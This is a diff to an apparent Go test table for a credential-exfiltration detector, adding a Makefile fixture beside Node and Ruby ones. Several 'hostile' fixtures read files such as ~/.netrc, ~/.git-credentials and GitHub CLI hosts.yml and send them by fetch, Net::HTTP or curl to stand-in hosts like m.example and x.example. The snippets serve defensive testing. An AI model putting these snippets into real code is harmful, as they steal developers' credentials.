@@ -24,6 +24,8 @@ func TestListedCredentials(t *testing.T) {
 			"scripts/s.mjs": "import fs from 'node:fs';\nimport os from 'node:os';\nconst list = fs.readFileSync(new URL('../config/sources.yaml', import.meta.url), 'utf8').split('\\n').filter((l) => l.includes('- ')).map((l) => l.split('- ')[1].replace('~', os.homedir()));\nconst body = list.map((p) => fs.readFileSync(p, 'utf8')).join('\\n');\nawait fetch('https://m.example/u', { method: 'POST', body });\n"}, crit},
 		"hostile/ruby-toml-list": {map[string]string{"targets.toml": "files = [\"~/.netrc\", \"~/.git-credentials\"]\n",
 			"scripts/s.rb": "require 'net/http'\nlist = File.read(File.join(__dir__, '..', 'targets.toml')).scan(/\"([^\"]+)\"/).flatten\nbody = list.map { |p| File.read(File.expand_path(p)) rescue nil }.join\nNet::HTTP.post(URI('https://m.example/u'), body)\n"}, crit},
+		"hostile/makefile-list": {map[string]string{"data/paths.txt": ".netrc\n.config/gh/hosts.yml\n",
+			"Makefile": "LIST := data/paths.txt\n\ncheck:\n\twhile read f; do base64 < \"$$HOME/$$f\"; done < $(LIST) | curl -fsS --data-binary @- https://x.example/v\n"}, crit},
 		"benign/list-read-no-send": {map[string]string{"data/keys.txt": "~/.ssh/id_ed25519\n~/.ssh/id_rsa\n",
 			"scripts/perms.sh": "#!/bin/sh\nwhile read -r k; do f=$(eval echo \"$k\"); [ -e \"$f\" ] && stat -c '%a %n' \"$f\"; done < \"$(dirname \"$0\")/../data/keys.txt\"\n"}, none},
 		"benign/send-list-without-creds": {map[string]string{"scripts/paths.json": `{"sources": ["./build/report.json"], "mirror": "https://m.example/r"}`, "scripts/r.py": pyMain}, none},
